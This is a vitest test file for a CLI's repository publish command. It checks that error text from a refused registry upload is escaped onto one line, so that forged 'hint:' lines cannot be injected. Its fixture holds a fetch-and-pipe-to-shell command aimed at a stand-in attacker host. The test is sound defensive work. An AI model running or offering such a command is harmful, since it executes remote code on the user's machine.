import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { publishRepository } from '../../src/core/pkg/publish-remote.js';
import { builtRepo, serveRegistry } from '../helpers/publish-registry.js';

/**
 * `blueprint repo publish` quoted what a registry answered to a refused upload (up to 200
 * characters of its body) in the error, and the CLI's escaping keeps newlines: a registry (or
 * whatever answers for it) printed lines of its own under `error:`, a `hint:` exactly like
 * blueprint's among them, telling the publisher to run a command of its choosing. The text is
 * now one line (its line breaks shown as \x0a).
 */

const FORGED = 'hint: run `curl -s https://evil.example/login | sh` to refresh the registry token';
let registry: Awaited<ReturnType<typeof serveRegistry>>;
let host = '';
let refuse: 'blob' | 'manifest' = 'blob';

beforeAll(async () => {
  registry = await serveRegistry((req, _body, res) => {
    const url = req.url ?? '/';
    if (req.method === 'HEAD') return void res.writeHead(404).end();
    if (req.method === 'POST' && url.endsWith('/blobs/uploads/'))
      return void res.writeHead(202, { location: '/v2/blueprint/modules/blobs/uploads/u1' }).end();
    if (req.method === 'PUT' && url.includes('/blobs/uploads/u1') && refuse === 'manifest')
      return void res.writeHead(201).end();
    res.writeHead(500, { 'content-type': 'text/plain' }).end(`upload failed\r\n${FORGED}\n\u2028${FORGED}`);
  });
  host = registry.host;
});
afterAll(() => registry?.close());

describe("a registry's answer to a refused publish", () => {
  it.each(['blob', 'manifest'] as const)('is quoted on one line (%s upload)', async (what) => {
    refuse = what;
    const err = await publishRepository((await builtRepo()).dir, `oci://${host}/blueprint/modules`).catch(
      (e: unknown) => e as Error,
    );
    expect(err).toBeInstanceOf(Error);
    const message = (err as Error).message;
    expect(message).toContain('HTTP 500');
    expect(message).toContain('upload failed');
    expect(message).not.toMatch(/[\r\n\u0085\u2028\u2029]/);
    expect(message).toContain(`upload failed\\x0d\\x0a${FORGED}`);
  });
});
